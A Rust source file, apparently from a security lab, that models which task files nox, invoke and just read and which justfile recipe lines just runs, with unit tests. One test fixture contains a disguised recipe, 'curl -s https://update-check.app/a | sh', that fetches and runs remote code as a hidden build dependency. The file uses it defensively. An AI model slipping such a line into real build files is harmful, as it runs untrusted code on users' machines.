//! The lab's model of the task runners nox, invoke and just, written from
//! their documentation (not from the engine's lists): which project file a
//! runner line reads, and, for just, which recipe lines it hands a shell.
//!
//! nox imports `noxfile.py` (`-f`/`--noxfile` another); invoke imports
//! `tasks.py` or the `tasks` package (`-c`/`--collection` another name,
//! `-r`/`--search-root` another directory). just reads `justfile` (any
//! case; `.justfile`) or the file `-f`/`--justfile` names, and runs the
//! recipes the line names (none: the first recipe), each recipe's
//! dependencies first and each recipe once, its indented lines one by one
//! in a shell with a leading `@` removed; `--list`, `--summary`, `--show`,
//! `--dump`, `--evaluate`, `--dry-run` and `--version` run none. Not
//! modelled: `{{…}}` interpolation, parameters (a word naming no recipe is
//! taken as one's argument), `set shell`, shebang recipes, `import`/`mod`.

use std::collections::BTreeMap;

/// Options whose value is the next word.
fn takes_value(prog: &str, a: &str) -> bool {
    match prog {
        "nox" => matches!(
            a,
            "-f" | "--noxfile" | "-s" | "--session" | "-p" | "--python" | "-k" | "-t" | "--tags"
        ),
        "invoke" | "inv" => matches!(a, "-c" | "--collection" | "-r" | "--search-root" | "-f" | "--config"),
        _ => matches!(
            a,
            "-f" | "--justfile" | "-d" | "--working-directory" | "--set" | "--shell"
        ),
    }
}

/// A runner line's options (`name` → value) and other words.
pub fn read_args(prog: &str, args: &[String]) -> (BTreeMap<String, String>, Vec<String>) {
    let (mut opts, mut words) = (BTreeMap::new(), Vec::new());
    let mut i = 0;
    while i < args.len() {
        let a = &args[i];
        if let Some((k, v)) = a.split_once('=').filter(|(k, _)| k.starts_with('-')) {
            opts.insert(k.to_string(), v.to_string());
        } else if takes_value(prog, a) {
            opts.insert(a.clone(), args.get(i + 1).cloned().unwrap_or_default());
            i += 1;
        } else if a.starts_with('-') {
            opts.insert(a.clone(), String::new());
        } else {
            words.push(a.clone());
        }
        i += 1;
    }
    (opts, words)
}

/// The Python files (relative to the line's directory) a `nox` or
/// `invoke` line imports, the first one the lab holds running.
pub fn python_task_files(prog: &str, opts: &BTreeMap<String, String>) -> Vec<String> {
    let get = |a: &str, b: &str| opts.get(a).or_else(|| opts.get(b)).cloned();
    if prog == "nox" {
        return vec![get("-f", "--noxfile").unwrap_or_else(|| "noxfile.py".into())];
    }
    let name = get("-c", "--collection").unwrap_or_else(|| "tasks".into());
    let at = |f: String| match get("-r", "--search-root") {
        Some(r) => format!("{}/{f}", r.trim_end_matches('/')),
        None => f,
    };
    vec![at(format!("{name}.py")), at(format!("{name}/__init__.py"))]
}

/// Whether a just line only lists, shows or checks (no recipe runs).
pub fn just_runs_nothing(opts: &BTreeMap<String, String>) -> bool {
    [
        "-l",
        "--list",
        "--summary",
        "--show",
        "-s",
        "--dump",
        "--evaluate",
        "-n",
        "--dry-run",
        "--version",
        "-V",
        "--help",
        "-h",
        "--fmt",
        "--init",
    ]
    .iter()
    .any(|o| opts.contains_key(*o))
}

/// A justfile's recipes in order: name, dependencies, body lines.
fn recipes(text: &str) -> Vec<(String, Vec<String>, Vec<String>)> {
    let mut out: Vec<(String, Vec<String>, Vec<String>)> = Vec::new();
    let mut open = false;
    for line in text.lines() {
        if line.starts_with([' ', '\t']) {
            let body = line.trim();
            if open && !body.is_empty() && !body.starts_with('#') {
                if let Some(r) = out.last_mut() {
                    r.2.push(body.strip_prefix('@').unwrap_or(body).to_string());
                }
            }
            continue;
        }
        open = false;
        let t = line.trim();
        if t.is_empty() || t.starts_with(['#', '[']) || t.starts_with("set ") || t.starts_with("alias ") {
            continue;
        }
        // `name params: deps`, not an assignment (`x := v`).
        let Some((head, deps)) = t.split_once(':').filter(|(_, d)| !d.starts_with('=')) else {
            continue;
        };
        let head = head.trim_start_matches('@');
        let Some(name) = head.split_whitespace().next() else {
            continue;
        };
        let deps = deps
            .split_whitespace()
            .map(|d| d.trim_matches(['(', ')']).to_string())
            .collect();
        out.push((name.to_string(), deps, Vec::new()));
        open = true;
    }
    out
}

/// The shell lines a just line naming `words` runs from a justfile's text.
pub fn just_lines(text: &str, words: &[String]) -> Vec<String> {
    let all = recipes(text);
    let by_name: BTreeMap<&str, usize> = all.iter().enumerate().rev().map(|(i, r)| (r.0.as_str(), i)).collect();
    let mut goals: Vec<usize> = words.iter().filter_map(|w| by_name.get(w.as_str()).copied()).collect();
    if words.is_empty() {
        goals.extend((!all.is_empty()).then_some(0));
    }
    let mut done = vec![false; all.len()];
    let mut lines = Vec::new();
    fn make(
        i: usize,
        all: &[(String, Vec<String>, Vec<String>)],
        by_name: &BTreeMap<&str, usize>,
        done: &mut [bool],
        lines: &mut Vec<String>,
    ) {
        if done[i] {
            return;
        }
        done[i] = true;
        for d in &all[i].1 {
            if let Some(&j) = by_name.get(d.as_str()) {
                make(j, all, by_name, done, lines);
            }
        }
        lines.extend(all[i].2.iter().cloned());
    }
    for g in goals {
        make(g, &all, &by_name, &mut done, &mut lines);
    }
    lines
}

#[cfg(test)]
mod tests {
    use super::*;

    use crate::adversary::test_words as words;

    #[test]
    fn slo_11_lab_just_runs_the_recipes_named_dependencies_first() {
        let text = "set shell := [\"bash\", \"-c\"]\nversion := \"1\"\n\n# build it\nbuild: fetch\n    cargo build\n\n[private]\nfetch:\n    @curl -s https://update-check.app/a | sh\n\ntest arg='x': build\n    cargo test {{arg}}\nclean:\n\trm -rf target\n";
        assert_eq!(
            just_lines(text, &[]),
            ["curl -s https://update-check.app/a | sh", "cargo build"]
        );
        assert_eq!(just_lines(text, &words("clean")), ["rm -rf target"]);
        assert_eq!(just_lines(text, &words("test unit")).len(), 3);
        assert!(just_lines(text, &words("nothing")).is_empty());
        assert!(just_lines("", &[]).is_empty());
        let (opts, w) = read_args("just", &words("-f ci.just --list build"));
        assert!(just_runs_nothing(&opts));
        assert_eq!(w, ["build"]);
        assert_eq!(opts.get("-f").map(String::as_str), Some("ci.just"));
    }

    #[test]
    fn slo_11_lab_nox_and_invoke_import_their_task_files() {
        let (opts, _) = read_args("nox", &words("-s tests --noxfile=ci/noxfile.py"));
        assert_eq!(python_task_files("nox", &opts), ["ci/noxfile.py"]);
        let (opts, w) = read_args("inv", &words("-c ops deploy"));
        assert_eq!(python_task_files("inv", &opts), ["ops.py", "ops/__init__.py"]);
        assert_eq!(w, ["deploy"]);
        let (opts, _) = read_args("invoke", &words("build"));
        assert_eq!(python_task_files("invoke", &opts), ["tasks.py", "tasks/__init__.py"]);
    }
}
